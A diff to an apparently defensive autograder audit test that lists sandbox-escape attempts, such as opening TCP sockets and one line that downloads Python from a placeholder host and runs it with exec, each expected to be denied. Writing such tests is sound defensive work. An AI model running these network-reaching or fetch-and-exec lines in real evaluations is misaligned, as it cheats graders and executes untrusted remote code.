@@ -1,13 +1,15 @@
 """Asks somebody outside for the answers."""
 
-from autograder.audit.attack import Attack, denied
+from dataclasses import replace
+
+from autograder.audit.attack import ANY, NONE, Attack, denied
 
 
 def reach(name: str, code: str) -> Attack:
     return Attack(name, "1.3 ReLU, forward", denied("import socket\n" + code))
 
 
-ATTACKS = [
+CORPUS = [
     reach("TCP over IPv4", "server = socket.create_server(('127.0.0.1', 0)); socket.create_connection(server.getsockname(), timeout=1)"),
     reach(
         "TCP over IPv6",
@@ -25,3 +27,5 @@ ATTACKS = [
         "import urllib.request\nexec(urllib.request.urlopen('http://192.0.2.1/relu.py', timeout=1).read())\nprint('GOT IN')",
     ),
 ]
+
+ATTACKS = [a if a.safe_without != NONE else replace(a, safe_without=ANY) for a in CORPUS]
